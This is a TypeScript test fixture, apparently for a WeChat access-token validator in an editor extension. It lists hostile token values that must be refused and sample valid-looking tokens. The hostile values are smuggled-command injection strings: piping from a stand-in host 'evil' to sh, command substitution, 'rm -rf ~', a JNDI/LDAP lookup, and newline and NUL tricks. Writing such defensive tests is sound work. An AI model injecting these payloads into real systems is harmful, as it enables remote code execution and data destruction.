// Values a hostile or broken source may put where the access token goes. Whoever can write the
// team's Redis (or answer in WeChat's place) could otherwise put shell syntax into every task that
// uses `${command:wechat.accessToken}` or WECHAT_ACCESS_TOKEN. Each must be refused by the one
// token check (src/wechat/tokenValue.ts), by every source, and never stored.

/** [name, value]: every one printable ASCII without spaces unless its name says otherwise. */
export const HOSTILE_TOKENS: ReadonlyArray<readonly [string, string]> = [
  ['shell: quote, ${IFS}, pipe', 'AAAA";curl${IFS}evil|sh;"'],
  ['shell: backticks and $()', 'tok`id`$(id)'],
  ['shell: single quotes', "86_ok'$(id)'"],
  ['shell: && and >', '86_ok&&id>/tmp/x'],
  ['shell: ; and ~', '86_ok;rm${IFS}-rf${IFS}~'],
  ['URL: %0a and &', '86_ok%0acurl&x=1'],
  ['template: ${jndi:…}', '${jndi:ldap://evil/x}'],
  ['a space inside', '86_ok id'],
  ['a newline inside', '86_ok\ncurl evil|sh'],
  ['a NUL byte', '86_ok\u0000id'],
  ['non-ASCII letters', '86_tök_ünïcode'],
  ['513 characters (WeChat reserves 512)', `86_${'A'.repeat(510)}`],
];

/** Tokens as WeChat issues them (A-Z, a-z, 0-9, _ and -), up to the 512 characters it reserves. */
export const WECHAT_LIKE_TOKENS: readonly string[] = [
  '77_1NpZcovAwqregVgwnp2Vlpf93-tU83PQL0p0PlGUojlGBsDSnBsJoCuinBlO7-27TejRrN6gWdRs0s1P-NubfAkKMV_Rj_vjBgLMdD5pFlzGaQWM5aSt8vQGYR0KPWbAHATYF',
  `86_${'Ab-_9'.repeat(101)}4xyz`,
  'x',
];
